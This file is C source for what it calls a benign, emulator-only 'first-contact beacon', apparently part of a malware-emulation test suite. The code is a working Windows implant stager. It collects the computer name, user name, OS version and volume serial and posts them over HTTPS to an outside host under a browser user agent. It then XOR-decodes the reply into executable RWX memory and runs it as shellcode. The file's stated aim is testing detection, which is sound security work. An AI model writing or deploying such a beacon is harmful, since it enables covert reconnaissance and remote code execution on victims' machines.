/*
 * beacon.c - probe: a first-contact beacon that builds its request with the printf family and
 * posts the machine's details (benign, emulator-only; see ../../lineage-common/common.h).
 *
 * GetComputerNameA, GetUserNameA, RtlGetVersion and the volume serial (GetVolumeInformationA)
 * are formatted with wsprintfA into "id=%08lx&host=%s&user=%s&os=%lu.%lu.%lu&arch=x64"; the
 * request's path and headers with sprintf-style calls too; the body is POSTed with WinINet
 * (InternetConnectA + HttpOpenRequestA + HttpSendRequestA). The answer is a task: shellcode XOR
 * 0x21, run in new RWX memory; it writes C:\Users\Public\lineage_beacon.txt.
 * Exit codes: 0 ok, 1 no marker, 2 network, 3 memory.
 */
#include "common.h"
#include <wininet.h>

typedef LONG (WINAPI *RtlGetVersion_t)(OSVERSIONINFOW *);

void Entry(void)
{
    typedef DWORD (WINAPI *sc_t)(struct sc_ctx *);
    static struct sc_ctx ctx;
    static unsigned char answer[0x4000];
    char host[64], user[64], body[512], path[64], headers[128];
    DWORD n, serial = 0, got, total = 0, i;
    OSVERSIONINFOW os;
    RtlGetVersion_t get_version;
    HINTERNET net, con, req;
    unsigned char *code;

    if (!marker_present())
        ExitProcess(1);
    n = sizeof(host);
    if (!GetComputerNameA(host, &n))
        copy_str(host, "?", 2);
    n = sizeof(user);
    if (!GetUserNameA(user, &n))
        copy_str(user, "?", 2);
    os.dwOSVersionInfoSize = sizeof(os);
    get_version = (RtlGetVersion_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "RtlGetVersion");
    if (!get_version || get_version(&os) != 0)
        os.dwMajorVersion = os.dwMinorVersion = os.dwBuildNumber = 0;
    GetVolumeInformationA("C:\\", 0, 0, &serial, 0, 0, 0, 0);
    wsprintfA(body, "id=%08lx&host=%s&user=%s&os=%lu.%lu.%lu&arch=x64", serial, host, user,
              os.dwMajorVersion, os.dwMinorVersion, os.dwBuildNumber);
    wsprintfA(path, "/api/v%d/register", 2);
    for (n = 0; body[n]; n++)
        ;
    wsprintfA(headers, "Content-Type: application/x-www-form-urlencoded\r\nX-Session: %08lx\r\n", serial ^ 0x5a5a5a5a);
    net = InternetOpenA("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    con = net ? InternetConnectA(net, "telemetry.example-metrics.net", INTERNET_DEFAULT_HTTPS_PORT, 0, 0, INTERNET_SERVICE_HTTP, 0, 0) : 0;
    req = con ? HttpOpenRequestA(con, "POST", path, 0, 0, 0, INTERNET_FLAG_SECURE | INTERNET_FLAG_RELOAD, 0) : 0;
    if (!req || !HttpSendRequestA(req, headers, (DWORD)-1, body, n))
        ExitProcess(2);
    while (total < sizeof(answer) && InternetReadFile(req, answer + total, sizeof(answer) - total, &got) && got)
        total += got;
    InternetCloseHandle(req);
    InternetCloseHandle(con);
    InternetCloseHandle(net);
    if (total < 16)
        ExitProcess(2);
    code = (unsigned char *)VirtualAlloc(0, total, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!code)
        ExitProcess(3);
    for (i = 0; i < total; i++)
        code[i] = answer[i] ^ 0x21;
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_beacon.txt", "task received after the beacon\n");
    ((sc_t)(void *)code)(&ctx);
    ExitProcess(0);
}
